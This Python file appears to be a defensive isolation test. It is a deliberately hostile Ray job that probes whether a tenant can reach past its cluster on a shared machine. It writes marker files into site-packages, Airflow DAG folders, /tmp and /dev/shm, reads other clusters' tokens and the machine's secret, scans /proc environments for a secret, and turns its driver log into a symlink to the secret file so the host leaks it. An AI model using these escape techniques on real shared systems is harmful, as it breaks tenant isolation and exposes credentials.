"""A hostile Ray job: what a tenant's code tries on a shared machine to reach past its own cluster.

Run as a job's entrypoint with one JSON argument (paths on the machine, a marker to write, a secret
to look for); writes what each attempt did to ``$HOME/probe.json`` and, last, replaces its own
driver log with a link to a file of its choosing, for the machine to read when the job ends.
"""

from __future__ import annotations

import json
import os
import socket
import sysconfig
import tempfile
from pathlib import Path


def attempt(action) -> str:
    try:
        action()
    except OSError as error:
        return f"refused: {type(error).__name__}"
    return "done"


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)


def environments_holding(secret: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if secret.encode() in (entry / "environ").read_bytes():
                    found.append(entry.name)
            except OSError:
                pass
    return found


def main(args: dict) -> None:
    marker = args["marker"]
    seen = {
        "write its record": attempt(lambda: Path(args["record"]).write_text('{"labels": {"team": "team-a"}}')),
        "write site-packages": attempt(lambda: write(Path(sysconfig.get_paths()["purelib"], f"{marker}.pth"), "")),
        "write the DAGs folder": attempt(lambda: write(Path(args["dags_folder"], f"{marker}.py"), "# hostile\n")),
        "write a DAG bundle folder": attempt(
            lambda: write(Path(tempfile.gettempdir(), "airflow", "dag_bundles", marker), "# hostile\n")
        ),
        "write the worker's home": attempt(lambda: write(Path(args["worker_home"], marker), marker)),
        "write /tmp": attempt(lambda: write(Path("/tmp", marker), marker)),
        "write /dev/shm": attempt(lambda: write(Path("/dev/shm", marker), marker)),
        "read another cluster's token": attempt(lambda: Path(args["other_token"]).read_text()),
        "read the machine's secret": attempt(lambda: Path(args["secret_file"]).read_text()),
    }
    for path in args["sockets"]:
        seen[f"connect {path}"] = attempt(lambda path=path: connect(path))
    seen["environments holding the worker's secret"] = environments_holding(args["worker_secret"])
    print("probed", len(seen), "ways out", flush=True)
    write(Path(os.environ["HOME"], "probe.json"), json.dumps(seen))
    # the confused deputy: the machine reads this job's driver log once the job ends; make it a link
    driver_log = os.readlink("/proc/self/fd/1")
    os.unlink(driver_log)
    os.symlink(args["secret_file"], driver_log)


if __name__ == "__main__":
    import sys

    main(json.loads(sys.argv[1]))
